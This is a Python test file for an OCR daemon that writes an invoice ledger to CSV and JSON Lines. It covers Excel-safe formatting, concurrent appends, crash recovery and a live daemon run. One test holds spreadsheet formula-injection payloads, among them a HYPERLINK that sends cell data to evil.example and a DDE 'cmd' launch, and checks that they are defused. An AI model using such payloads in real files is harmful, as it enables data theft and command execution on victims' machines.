"""The inbox ledger (ocrd.daemon.ledger): Excel-safe CSV and JSON Lines, whole rows under concurrency and after a crash."""

from __future__ import annotations

import csv
import hashlib
import json
import multiprocessing
import os
import re
import signal
import subprocess
import sys
from pathlib import Path

from ocrd import faults
from ocrd.config import InboxSettings
from ocrd.daemon import ledger, outputs
from ocrd.daemon.claims import Claim, Owner, ProcessingArea
from ocrd.fields.model import HEADER_FIELDS, Check, Fields, FieldValue
from ocrd.result import Document, Line, Page
from tests.daemon_support import REPO, Daemon, inbox_folders, png_bytes, wait_until

BOX = [[0.0, 0.0], [10.0, 0.0], [10.0, 5.0], [0.0, 5.0]]


def invoice_fields(**values: object) -> Fields:
    found = {
        "invoice_code": FieldValue("144031900111", 0.98, [Check("invoice_code_digits", True)]),
        "invoice_number": FieldValue("00412345", 0.97),
        "issue_date": FieldValue("2026-03-14", 0.99),
        "buyer_name": FieldValue("深圳市某某科技有限公司", 0.9),
        "total": FieldValue("1130.00", 0.95),
        "line_items": FieldValue([{"name": "*信息技术服务*维护费", "amount": "1000.00", "tax_rate": "13%"}], 0.9),
    }
    found |= {name: FieldValue(value, 0.9) for name, value in values.items()}
    return Fields(kind="vat_normal", values=found, reasons=["check_code: not found", "seller_tax_id: 17 characters"])


def entry(
    file: str = "2026/03/发票.pdf", fields: Fields | None = None, at: str = "2026-03-14T09:30:00+08:00"
) -> ledger.Entry:
    return ledger.Entry(file=file, processed_at=at, sha256="ab" * 32, fields=fields)


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_the_csv_is_what_excel_needs_and_reads_back_to_the_same_values(tmp_path: Path) -> None:
    ledger.record(tmp_path, entry(fields=invoice_fields()))
    ledger.record(tmp_path, entry("scan 2.png", fields=None))
    data = (tmp_path / "ledger.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1, "one BOM, at the start"
    assert data.endswith(b"\r\n") and data.count(b"\n") == data.count(b"\r\n") == 3, "CRLF row ends, one row a line"
    for raw in data.removeprefix(b"\xef\xbb\xbf").split(b"\r\n")[:-1]:
        cells = raw.decode().split('","')
        assert raw.startswith(b'"') and raw.endswith(b'"') and len(cells) == len(ledger.COLUMNS), "every cell quoted"
    header, first, second = csv_rows(tmp_path / "ledger.csv")
    assert header == ["file", "processed_at", "kind", "needs_review", "reasons", *HEADER_FIELDS, "line_items"]
    row = dict(zip(header, first, strict=True))
    assert row["file"] == "2026/03/发票.pdf" and row["processed_at"] == "2026-03-14T09:30:00+08:00"
    assert (row["kind"], row["needs_review"]) == ("vat_normal", "true")
    assert row["reasons"] == "check_code: not found; seller_tax_id: 17 characters"
    assert (row["invoice_code"], row["invoice_number"], row["issue_date"]) == ("144031900111", "00412345", "2026-03-14")
    assert row["buyer_name"] == "深圳市某某科技有限公司" and row["total"] == "1130.00" and row["tax"] == ""
    assert json.loads(row["line_items"]) == [{"name": "*信息技术服务*维护费", "amount": "1000.00", "tax_rate": "13%"}]
    assert second == ["scan 2.png", "2026-03-14T09:30:00+08:00", *[""] * (len(header) - 2)], "no fields: empty cells"


def test_cells_excel_would_run_as_formulas_are_defused(tmp_path: Path) -> None:
    hostile = {
        "buyer_name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
        "seller_name": "+cmd|' /C calc'!A0",
        "check_code": "-2+3",
        "machine_number": "@SUM(A1:A9)",
        "buyer_tax_id": "\t=1+1",
        "seller_tax_id": "\r=1+1",
        "amount_pretax": "-120.00",  # a red-letter invoice's amount: a number, not a formula
        "total_in_words": "壹仟\n壹佰叁拾元整",
    }
    ledger.record(tmp_path, entry(file="=danger.pdf", fields=invoice_fields(**hostile)))
    header, row = csv_rows(tmp_path / "ledger.csv")
    cells = dict(zip(header, row, strict=True))
    assert cells["file"] == "'=danger.pdf"
    assert cells["buyer_name"] == "'" + hostile["buyer_name"]
    assert cells["seller_name"] == "'+cmd|' /C calc'!A0"
    assert cells["check_code"] == "'-2+3"
    assert cells["machine_number"] == "'@SUM(A1:A9)"
    assert cells["buyer_tax_id"] == "'\t=1+1"
    assert cells["seller_tax_id"] == "' =1+1", "a CR is defused, and no row spans two lines"
    assert cells["amount_pretax"] == "-120.00"
    assert cells["total_in_words"] == "壹仟 壹佰叁拾元整"
    # The JSON Lines file keeps every value exactly as read.
    line = json.loads((tmp_path / "ledger.jsonl").read_text(encoding="utf-8"))
    assert line["file"] == "=danger.pdf"
    assert line["fields"]["values"]["buyer_name"]["value"] == hostile["buyer_name"]


def test_json_lines_carry_the_whole_fields(tmp_path: Path) -> None:
    fields = invoice_fields()
    ledger.record(tmp_path, entry(fields=fields))
    ledger.record(tmp_path, entry("b.png", fields=None))
    first, second = [json.loads(line) for line in (tmp_path / "ledger.jsonl").read_text(encoding="utf-8").splitlines()]
    assert list(first) == ["file", "processed_at", "sha256", "fields"]
    assert first["sha256"] == "ab" * 32
    assert Fields.from_dict(first["fields"]).to_dict() == fields.to_dict()
    assert second == {"file": "b.png", "processed_at": "2026-03-14T09:30:00+08:00", "sha256": "ab" * 32, "fields": None}


def test_processed_at_is_local_time_with_its_offset() -> None:
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", ledger.processed_at(1_773_451_800.25))


def test_a_torn_last_row_is_cut_off_before_the_next_one(tmp_path: Path) -> None:
    ledger.record(tmp_path, entry("a.pdf", fields=invoice_fields()))
    # A crash in the middle of a write leaves a row without its line end.
    with (tmp_path / "ledger.csv").open("ab") as handle:
        handle.write(b'"b.pdf","2026-03-14T09:31:00+08:00","vat_')
    with (tmp_path / "ledger.jsonl").open("ab") as handle:
        handle.write(b'{"file": "b.pdf", "processed_at": "2026-')
    ledger.record(tmp_path, entry("c.pdf", fields=invoice_fields()))
    assert [row[0] for row in csv_rows(tmp_path / "ledger.csv")] == ["file", "a.pdf", "c.pdf"]
    lines = (tmp_path / "ledger.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["file"] for line in lines] == ["a.pdf", "c.pdf"]


def test_a_torn_header_is_written_again(tmp_path: Path) -> None:
    (tmp_path / "ledger.csv").write_bytes(ledger.CSV_HEADER[:20])
    ledger.record(tmp_path, entry("a.pdf"))
    data = (tmp_path / "ledger.csv").read_bytes()
    assert data.startswith(ledger.CSV_HEADER) and data.count(b"\xef\xbb\xbf") == 1
    assert [row[0] for row in csv_rows(tmp_path / "ledger.csv")] == ["file", "a.pdf"]


def test_once_adds_a_row_only_where_it_is_missing(tmp_path: Path) -> None:
    first = entry("a.pdf", fields=invoice_fields())
    ledger.append(tmp_path / "ledger.csv", first.csv_row(), header=ledger.CSV_HEADER)  # the JSON line was lost
    ledger.record(tmp_path, first, once=True)
    ledger.record(tmp_path, first, once=True)
    ledger.record(tmp_path, entry("a.pdf", at="2026-03-14T10:00:00+08:00"), once=True)  # dropped again later
    assert [row[:2] for row in csv_rows(tmp_path / "ledger.csv")[1:]] == [
        ["a.pdf", "2026-03-14T09:30:00+08:00"],
        ["a.pdf", "2026-03-14T10:00:00+08:00"],
    ]
    assert len((tmp_path / "ledger.jsonl").read_text(encoding="utf-8").splitlines()) == 2


def append_many(outbox: str, writer: int, count: int) -> None:
    for number in range(count):
        name = f"writer{writer}/{number:03d}.pdf"
        ledger.record(outbox, entry(name, fields=invoice_fields(buyer_name=f"买方{writer}-{number}" + "很长" * 400)))


def test_two_processes_appending_at_once_leave_every_row_whole(tmp_path: Path) -> None:
    context = multiprocessing.get_context("spawn")
    writers = [context.Process(target=append_many, args=(str(tmp_path), writer, 200)) for writer in (1, 2)]
    for process in writers:
        process.start()
    for process in writers:
        process.join(300)
        assert process.exitcode == 0
    header, *rows = csv_rows(tmp_path / "ledger.csv")
    assert header[0] == "file" and len(rows) == 400
    expected = {f"writer{w}/{n:03d}.pdf": f"买方{w}-{n}" + "很长" * 400 for w in (1, 2) for n in range(200)}
    assert {row[0]: row[header.index("buyer_name")] for row in rows} == expected
    assert all(len(row) == len(header) for row in rows)
    lines = (tmp_path / "ledger.jsonl").read_text(encoding="utf-8").splitlines()
    assert sorted(json.loads(line)["file"] for line in lines) == sorted(expected)
    # Each writer's rows stay in its own order.
    for writer in (1, 2):
        mine = [row[0] for row in rows if row[0].startswith(f"writer{writer}/")]
        assert mine == sorted(mine)


# --- with the daemon's outputs ---------------------------------------------------------------------


DATA = b"%PDF-1.7 an invoice"


def invoice_inbox(root: Path) -> outputs.Targets:
    inbox = InboxSettings(
        name="invoices",
        path=str(root / "inbox"),
        outbox=str(root / "outbox"),
        done=str(root / "done"),
        failed=str(root / "failed"),
        ledger=True,
    )
    targets = outputs.Targets(inbox)
    targets.prepare()
    return targets


def claimed(root: Path, rel: str, data: bytes = DATA) -> tuple[outputs.Targets, Claim]:
    targets = invoice_inbox(root)
    Path(targets.inbox.path, rel).parent.mkdir(parents=True, exist_ok=True)
    Path(targets.inbox.path, rel).write_bytes(data)
    area = ProcessingArea(targets.inbox.path, Owner.current())
    area.ensure()
    claim = area.claim(rel)
    assert claim is not None
    return targets, claim


def document(source: str, data: bytes = DATA) -> Document:
    result = Document(
        source=source,
        sha256=hashlib.sha256(data).hexdigest(),
        pages=[Page(0, 100, 50, "ocr", [Line("发票代码 144031900111", 0.99, BOX)])],
    )
    result.fields = invoice_fields()
    return result


def ledger_files(root: Path) -> list[str]:
    return [row[0] for row in csv_rows(root / "outbox" / "ledger.csv")[1:]]


def jsonl_files(root: Path) -> list[str]:
    text = (root / "outbox" / "ledger.jsonl").read_text(encoding="utf-8")
    return [json.loads(line)["file"] for line in text.splitlines()]


def adopt_abandoned_claim(root: Path) -> Claim:
    (folder,) = (root / "inbox" / ".ocrd" / "processing").iterdir()
    adopted = ProcessingArea(root / "inbox", Owner("next-run", 1, "0")).adopt(folder)
    assert adopted is not None
    return adopted


def finish_until_killed(root: str) -> None:
    """Run in a child process that OCRD_CRASH_AT kills with SIGKILL part way."""
    targets, claim = claimed(Path(root), "b.pdf")
    outputs.complete_success(targets, claim, document("b.pdf"))


def test_a_finished_document_gets_one_row_with_the_time_of_its_results(tmp_path: Path) -> None:
    targets, claim = claimed(tmp_path, "2026/发票.pdf")
    written, _ = outputs.complete_success(targets, claim, document("2026/发票.pdf"))
    (row,) = csv_rows(tmp_path / "outbox" / "ledger.csv")[1:]
    assert row[0] == "2026/发票.pdf" and row[2] == "vat_normal" and row[5] == "144031900111"
    assert row[1] == ledger.processed_at(Path(written["json"]).stat().st_mtime)
    (line,) = (tmp_path / "outbox" / "ledger.jsonl").read_text(encoding="utf-8").splitlines()
    assert json.loads(line)["sha256"] == hashlib.sha256(DATA).hexdigest()
    assert written.keys() == {"txt", "json"}


def test_a_crash_after_the_rows_before_the_original_moved_adds_no_second_row(tmp_path: Path) -> None:
    child = subprocess.run(
        [
            sys.executable,
            "-c",
            f"from tests.test_ledger import finish_until_killed; finish_until_killed({str(tmp_path)!r})",
        ],
        cwd=REPO,
        env={**os.environ, "PYTHONPATH": str(REPO), faults.ENV: "original-planned"},
        check=False,
    )
    assert child.returncode == -signal.SIGKILL
    assert ledger_files(tmp_path) == ["b.pdf"] and (tmp_path / "inbox" / ".ocrd" / "processing").exists()
    adopted = adopt_abandoned_claim(tmp_path)
    assert outputs.resume(invoice_inbox(tmp_path), adopted).action == outputs.FINISHED
    assert (tmp_path / "done" / "b.pdf").read_bytes() == DATA
    assert ledger_files(tmp_path) == ["b.pdf"] and jsonl_files(tmp_path) == ["b.pdf"]


def test_a_crash_after_the_sidecars_before_the_rows_adds_them_from_the_sidecar(tmp_path: Path) -> None:
    targets, claim = claimed(tmp_path, "c.pdf")
    outputs.write_results(targets, claim, document("c.pdf"))  # ... and then the process died
    adopted = adopt_abandoned_claim(tmp_path)
    assert outputs.resume(targets, adopted).action == outputs.FINISHED
    assert ledger_files(tmp_path) == ["c.pdf"] and jsonl_files(tmp_path) == ["c.pdf"]
    row = csv_rows(tmp_path / "outbox" / "ledger.csv")[1]
    assert row[5] == "144031900111", "the fields are read back from the JSON sidecar"


def test_a_ledger_that_cannot_be_written_keeps_the_original_claimed(tmp_path: Path) -> None:
    targets, claim = claimed(tmp_path, "a.pdf")
    (tmp_path / "outbox" / "ledger.csv").mkdir()  # stands in for a file that cannot be opened
    try:
        outputs.complete_success(targets, claim, document("a.pdf"))
    except OSError:
        pass
    else:
        raise AssertionError("the failed ledger write must be reported, so the daemon retries it")
    assert claim.file.exists() and claim.record.stage == outputs.PLACING, "the original waits, results kept"
    (tmp_path / "outbox" / "ledger.csv").rmdir()
    outputs.complete_success(targets, claim, document("a.pdf"))
    assert not claim.file.exists() and (tmp_path / "done" / "a.pdf").exists()
    assert [row[0] for row in csv_rows(tmp_path / "outbox" / "ledger.csv")[1:]] == ["a.pdf"]
    assert len(list((tmp_path / "outbox").glob("a.pdf*.json"))) == 1, "the sidecars were not written twice"


# --- a real daemon -------------------------------------------------------------------------------------


def test_an_inbox_with_a_ledger_gets_a_row_per_file(tmp_path: Path) -> None:
    folders = inbox_folders(tmp_path)
    config = tmp_path / "ocrd.toml"
    config.write_text(
        f"""[daemon]
workers = 1
threads_per_worker = 1
rescan_interval = 1.0
log_format = "json"

[web]
enabled = false

[[inbox]]
name = "invoices"
path = "{folders["inbox"]}"
outbox = "{folders["outbox"]}"
done = "{folders["done"]}"
failed = "{folders["failed"]}"
settle = 0.2
ledger = true

[[inbox.rules]]
name = "invoice_code"
pattern = '发票代码[:：]?\\s*(?P<value>[0-9Oo]{{10,12}})'
normalise = "digits"
check_pattern = '\\d{{12}}'
""",
        encoding="utf-8",
    )
    check = subprocess.run(
        [sys.executable, "-m", "ocrd.cli", "check-config", str(config)], capture_output=True, text=True, check=False
    )
    assert check.returncode == 0, check.stderr
    assert "1 rule (invoice_code) of its own, ledger" in check.stdout
    daemon = Daemon(["--config", str(config)], tmp_path / "daemon.log").start().wait_ready()
    try:
        pages = {"a.png": ["发票代码：144031900111", "Item 001 OK"], "b.png": ["发票代码：14403190011", "Item 002 OK"]}
        for name, lines in pages.items():
            (folders["inbox"] / name).write_bytes(png_bytes(lines, tmp_path / name))
        csv_path = folders["outbox"] / "ledger.csv"
        wait_until(lambda: csv_path.exists() and len(csv_rows(csv_path)) == 3, timeout=180)
        wait_until(lambda: len(list(folders["done"].iterdir())) == 2, timeout=60)
    finally:
        assert daemon.stop() == 0
    header, *rows = csv_rows(csv_path)
    assert sorted(row[0] for row in rows) == ["a.png", "b.png"]
    lines = [json.loads(line) for line in (folders["outbox"] / "ledger.jsonl").read_text(encoding="utf-8").splitlines()]
    by_file = {line["file"]: line for line in lines}
    assert sorted(by_file) == ["a.png", "b.png"]
    for name in pages:
        sidecar = json.loads((folders["outbox"] / f"{name}.json").read_text(encoding="utf-8"))
        assert by_file[name]["sha256"] == sidecar["sha256"]
        assert by_file[name]["fields"] == sidecar.get("fields"), "the ledger repeats the sidecar's fields"
    codes = {name: by_file[name]["fields"]["values"]["invoice_code"] for name in pages}
    assert codes["a.png"]["value"] == "144031900111" and codes["a.png"]["valid"] is not False
    assert codes["b.png"]["value"] == "14403190011" and codes["b.png"]["valid"] is False
    row = dict(zip(header, next(row for row in rows if row[0] == "b.png"), strict=True))
    assert row["invoice_code"] == "14403190011" and row["needs_review"] == "true"
